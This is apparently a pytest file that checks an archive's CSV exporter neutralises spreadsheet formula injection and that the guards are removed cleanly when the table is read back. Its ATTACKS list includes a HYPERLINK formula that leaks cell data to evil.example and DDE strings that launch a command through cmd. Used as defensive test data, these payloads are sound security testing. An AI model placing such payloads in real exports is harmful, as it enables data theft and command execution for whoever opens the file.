"""CSV for spreadsheets, which runs no formula and gives every text back."""

import csv
import io
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from archive.export.article_fields import FIELDS, chosen_fields
from archive.export.csv_table import CsvTable
from archive.formats.tabular.delimited import DelimitedReader
from archive.model.article import Credit, Precision, Published, Role
from archive.model.document import Document
from archive.model.guarded_cells import guarded, unguarded
from tests.support.articles import article

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Ice")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＠SUM(A1)",
    "'=1+1",
    "''-1",
]


def table(*articles, fields=()):
    form = CsvTable(chosen_fields(fields))
    return form.head + b"".join(map(form.written, articles))


def rows(content):
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", ATTACKS)
def test_no_cell_is_a_formula_whatever_field_it_stands_in(text):
    poisoned = article(
        text,
        (text,),
        id="a" * 16,
        credits=(Credit(text, Role.REPORTER),),
        source=text,
        section=text,
        topics=(text,),
        url=text,
        captions=(text,),
        tags=(text,),
        notes=(text,),
        collections=(text,),
    )
    (row,) = rows(table(poisoned))
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))
    assert row["headline"] == f"'{text}"


@given(st.text(max_size=9) | st.text("'=+-@| \t\r\n＝", max_size=6))
def test_a_guard_can_always_be_taken_off(text):
    assert unguarded(guarded(text)) == text
    assert not guarded(text).startswith(("\t", "\r", "\n"))
    assert not guarded(text).lstrip().startswith(("=", "+", "-", "@", "|", "＝"))


def test_add_reads_the_table_back_without_the_guards():
    first = article(
        "-2 degrees: ice",
        ("=It froze.", "“Again,” she said; all; week."),
        id="a" * 16,
        credits=(Credit("Ana Dray", Role.REPORTER), Credit("Ben Roh", Role.TRANSLATOR)),
        published=Published("2014-01-04", Precision.DAY, "declared"),
        source="@Wire",
        topics=("sea", "ice"),
        language="en",
        url="https://example.org/ice",
        tags=("mine",),
        captions=("The cable.",),
    )
    content = table(first, replace(first, headline="'quoted' words", url="https://example.org/2"))
    assert content.startswith(b"\xef\xbb\xbf")
    read = list(DelimitedReader().read(Document("a.csv", content, "text/csv")))
    one, two = (record.article for record in read)
    assert (one.headline, two.headline) == ("-2 degrees: ice", "'quoted' words")
    for name in ("body", "source", "topics", "language", "url", "captions"):
        assert getattr(one, name) == getattr(first, name)
    assert [(c.name, c.role) for c in one.credits] == [(c.name, c.role) for c in first.credits]
    assert one.published.value == "2014-01-04"


def test_apostrophes_of_other_tables_stay_as_they_are():
    other = b"headline,body\r\n'@ana' says it,'-2 and falling\r\n"
    (record,) = DelimitedReader().read(Document("a.csv", other, "text/csv"))
    assert record.article.headline == "'@ana' says it"


def test_chosen_fields_come_in_their_order_after_the_id():
    content = table(article("Ice", id="a" * 16, source="Wire"), fields=("source", "headline"))
    assert content.decode("utf-8-sig") == (
        '"backfile_id","source","headline"\r\n"aaaaaaaaaaaaaaaa","Wire","Ice"\r\n'
    )
    assert chosen_fields(()) == tuple(FIELDS)
